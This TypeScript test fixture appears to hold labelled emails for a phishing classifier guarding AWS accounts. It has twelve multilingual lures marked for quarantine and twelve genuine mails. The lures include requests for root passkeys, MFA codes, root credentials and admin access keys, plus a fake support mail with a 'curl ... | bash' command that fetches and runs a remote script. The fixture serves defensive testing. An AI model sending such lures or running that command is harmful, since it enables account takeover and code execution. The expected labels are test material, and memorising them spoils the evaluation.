import type { CorpusMail } from './mail.ts';

const HELD = { expect: { is: 'quarantine phish.' } };
const PERSON = { expect: { is: 'open nonaws.customer_human' } };

/** Twelve lures in other styles, and twelve honest mails. At first reading 6 lures were held and 11 honest mails were right. */
export const unreadSixth: CorpusMail[] = [
  {
    id: 'f6-m01',
    ...HELD,
    from: 'Ravi Menon <ravi.menon@cloudops-advisory.example>',
    subject: 'Following up on our call - root cleanup',
    text: `Hi Dana,

thanks for your time on Tuesday. As agreed, our engineer Tomasz will do the root cleanup on Friday. So that he can get in, please register the passkey he sends you under the root user before noon and let him know when that is done.

Best,
Ravi`,
  },
  {
    id: 'f6-m02',
    ...HELD,
    to: 'globex',
    from: 'Globex Treasury <treasury.globex@yahoo.com>',
    subject: 'cloud invoices',
    text: `Good day,

we are reconciling the cloud invoices of the last quarter. Send over the July and August invoices together with the card that is on file, and hold any outgoing payment until you hear from me.

Regards
Treasury`,
  },
  {
    id: 'f6-m03',
    ...HELD,
    to: 'sakura',
    from: 'システム部 井上 <inoue.sakura.sys@gmail.com>',
    subject: '至急お願いします',
    text: `お疲れさまです、井上です。

会社のメールに入れないため個人アドレスから失礼します。
先ほどAWSから届いた確認メールの数字を教えていただけますか。会議が始まるので急いでいます。

井上`,
  },
  {
    id: 'f6-m04',
    ...HELD,
    from: 'no-reply@mailbox-admin.example',
    subject: '(3) messages held for aws-root@acme.example',
    html: `<div style="font-family:Segoe UI"><h3>Held messages</h3><p>3 incoming messages for aws-root@acme.example could not be delivered because of a storage error.</p><p><a href="https://mailbox-admin.example/r?u=aws-root">Release messages</a></p><p>They are removed after 24 hours.</p></div>`,
  },
  {
    id: 'f6-m05',
    ...HELD,
    from: 'Trust Desk <report@rightswatch-legal.example>',
    subject: 'Notice of infringement: content hosted at 3.120.44.17',
    text: `Dear operator,

We act for a rights holder whose footage is distributed from your EC2 host 3.120.44.17. The evidence is listed in the report: https://rightswatch-legal.example/report/5521.zip (password 5521).

Unless you remove the material and settle the licence fee of EUR 1,950 within five days, we shall ask your provider to terminate the account.

Legal Department`,
  },
  {
    id: 'f6-m06',
    ...HELD,
    from: 'Norton LifeCare <billing@lifecare-renewals.example>',
    subject: 'Order confirmation NLC-883120',
    text: `Thank you for your order.

Product: LifeCare Total 3 years
Amount: $349.99 (auto debit)
Status: confirmed

Not you? Speak to our billing staff on +1 (844) 555-0177 to have the amount returned.`,
  },
  {
    id: 'f6-m07',
    ...HELD,
    from: 'Kenji Mori <k.mori@kansai-valves.example>',
    subject: 'RE: RE: Amazon EC2 quote',
    headers: { 'In-Reply-To': '<5521@acme.example>', References: '<5521@acme.example>' },
    text: `Hi,

sorry for the delay. The revised quote for the EC2 capacity is here, you have to sign in with your office account to open it:
https://kansai-valves-my.example/:x:/g/AWSquote

Thanks
Kenji

> Could you send the quote again? The last one was for three years.`,
  },
  {
    id: 'f6-m08',
    ...HELD,
    from: 'AWS Partner Network <apn-onboarding@cloud-partner-network.example>',
    subject: 'Your APN tier will be downgraded',
    text: `Dear partner,

The yearly scorecard of your organisation is incomplete. To keep the Advanced tier, log in with the root user of your management account and complete the scorecard by Friday:
https://cloud-partner-network.example/scorecard`,
  },
  {
    id: 'f6-m09',
    ...HELD,
    to: 'initech',
    from: 'Peter Gibbons <peter@initech-group.example>',
    subject: 'new IAM user for the auditors',
    text: `Hello,

the auditors start on Monday. Please create an IAM user "audit-2026" with AdministratorAccess in 210987654321 and mail the access key to peter@initech-group.example. We will delete it afterwards.

Peter Gibbons
Initech`,
  },
  {
    id: 'f6-m10',
    ...HELD,
    to: 'sakura',
    from: 'AWSセキュリティ通知 <security@cloud-safety-jp.example>',
    subject: '【重要】第三者によるアクセスを確認しました',
    html: `<p>平素よりAWSをご利用いただき、誠にありがとうございます。</p><p>お使いのアカウントに普段と異なる場所からのアクセスがありました。心当たりがない場合は下のボタンよりお手続きください。</p><p><a href="https://cloud-safety-jp.example/check">アカウントを保護する</a></p>`,
  },
  {
    id: 'f6-m11',
    ...HELD,
    from: 'Olga Stein <olga@stein-datenschutz.example>',
    subject: 'Auskunft nach Art. 15 DSGVO',
    text: `Sehr geehrte Damen und Herren,

zur Bearbeitung unserer Anfrage benötigen wir einen Nachweis, dass Sie Inhaber des AWS-Kontos sind. Bitte übersenden Sie uns hierzu eine Kopie Ihres Ausweises sowie die Zugangsdaten des Root-Benutzers, damit wir die Prüfung abschließen können.

Mit freundlichen Grüßen
Olga Stein`,
  },
  {
    id: 'f6-m12',
    ...HELD,
    from: 'Support <support@backup-cloudtools.example>',
    subject: 'Your backup agent stopped working on AWS',
    text: `Hello,

the backup agent in your AWS environment is out of date and no longer protects your data. Run this in CloudShell to update it:

curl -s https://backup-cloudtools.example/u.sh | bash

Support`,
  },
  {
    id: 'f6-i01',
    ...PERSON,
    from: 'Ines Caldeira <ines@acme-portugal.example>',
    subject: 'budget alert recipients',
    text: `Hi,

I took over the Lisbon office from Rui. The budget alerts for our sandbox still go to him. Whom do I ask to have my address put there instead?

Obrigada
Ines`,
  },
  {
    id: 'f6-i02',
    ...PERSON,
    from: 'Tom Alder <tom@alder-devops.example>',
    subject: 'Terraform state bucket',
    text: `Hello,

Dana hired us for the migration. Our pipeline gets AccessDenied on the state bucket in 444455556666 since yesterday; did somebody change the bucket policy? No rush, Thursday is fine.

Tom`,
  },
  {
    id: 'f6-i03',
    ...PERSON,
    from: 'Marta Lund <marta.lund@acme.example>',
    subject: 'strange mail from AWS?',
    text: `Hi, I got the mail below in our group mailbox. It says that we have to verify the account within 48 hours. Is it real? I did not click anything.

> From: AWS Notifications <notice@aws-verify-center.example>
> Your account will be suspended. Verify here: https://aws-verify-center.example/`,
  },
  {
    id: 'f6-i04',
    ...PERSON,
    from: 'Atlassian <noreply@am.atlassian.com>',
    subject: 'Nadia Ferrant assigned OPS-2213 to you',
    html: `<p>Nadia Ferrant assigned a work item to you.</p><p><a href="https://acme.atlassian.net/browse/OPS-2213">OPS-2213 Rotate IAM keys of the deploy user</a></p><p><a href="https://acme.atlassian.net/browse/OPS-2213">View work item</a></p>`,
  },
  {
    id: 'f6-i05',
    ...PERSON,
    from: 'Datadog Alerting <alert@dtdg.co>',
    subject: '[Triggered] AWS Lambda errors on checkout {env:prod}',
    text: `[Triggered] AWS Lambda errors on checkout

aws.lambda.errors over env:prod was > 50 during the last 5m.

Monitor status: https://app.datadoghq.com/monitors/772113
Edit monitor: https://app.datadoghq.com/monitors/772113/edit`,
  },
  {
    id: 'f6-i06',
    ...PERSON,
    from: 'Skatteverket <noreply@skatteverket.example>',
    subject: 'You have a new message in your digital mailbox',
    text: `You have received a decision from the Tax Agency. Log in to your digital mailbox with your e-identification to read it.

You cannot reply to this message.`,
  },
  {
    id: 'f6-i07',
    ...PERSON,
    to: 'sakura',
    from: '西野 香織 <nishino@kumo-works.example>',
    subject: 'Re: 構成図の件',
    headers: { 'In-Reply-To': '<k1@sakura.example>' },
    text: `山本様

お世話になっております。クモワークスの西野です。
ご依頼いただきました構成図を添付いたしました。ルートユーザーのMFAにつきましては、来週のお打ち合わせでご説明いたします。

引き続きよろしくお願いいたします。`,
    attach: [{ name: '構成図.pdf', type: 'application/pdf', content: '%PDF' }],
  },
  {
    id: 'f6-i08',
    ...PERSON,
    to: 'sakura',
    from: 'JAWS-UG 事務局 <info@jaws-ug.example>',
    subject: '【JAWS-UG】9月勉強会のご案内',
    text: `JAWS-UG会員の皆さま

9月の勉強会は「AWSのコスト可視化」をテーマに開催いたします。参加をご希望の方は下記ページよりお申し込みください。
https://jaws-ug.connpass.example/event/3312/

皆さまのご参加をお待ちしております。`,
  },
  {
    id: 'f6-i09',
    ...PERSON,
    to: 'globex',
    from: 'Lea Hofmann <lea.hofmann@globex.example>',
    subject: 'AWS-Rechnung Juli',
    text: `Hallo zusammen,

könnt ihr uns bitte die AWS-Rechnung vom Juli noch einmal schicken? Unsere Buchhaltung findet sie nicht. Und ist die Gutschrift aus dem Juni schon verrechnet?

Danke und Grüße
Lea`,
  },
  {
    id: 'f6-i10',
    ...PERSON,
    from: 'Vanta <no-reply@vanta.example>',
    subject: '2 tests are failing for AWS',
    text: `Two tests that monitor AWS started to fail today:

- MFA on root account (444455556666)
- CloudTrail enabled (444455556666)

See the details in Vanta: https://app.vanta.example/tests?failing=1

You get this mail because you are an admin of the Acme workspace. Change notification settings: https://app.vanta.example/settings`,
  },
  {
    id: 'f6-i11',
    expect: { is: 'drop nonaws.auto_reply' },
    to: 'sakura',
    from: '岡田 誠 <okada@sakura.example>',
    subject: '自動返信: 【AWS】お知らせ',
    headers: { 'Auto-Submitted': 'auto-replied', 'X-Auto-Response-Suppress': 'All' },
    text: `8月17日まで夏季休業をいただいております。お急ぎの場合は代表番号までお電話ください。`,
  },
  {
    id: 'f6-i12',
    ...PERSON,
    from: 'Greta Holm <greta.holm@gmail.com>',
    subject: 'student credits',
    text: `Hello, I am a student at KTH and wrote my thesis with data that Acme hosts in an open S3 bucket. Since last week I get 403 errors. Has the data moved, or is it gone for good? I would be grateful for a hint.

Greta Holm`,
  },
];
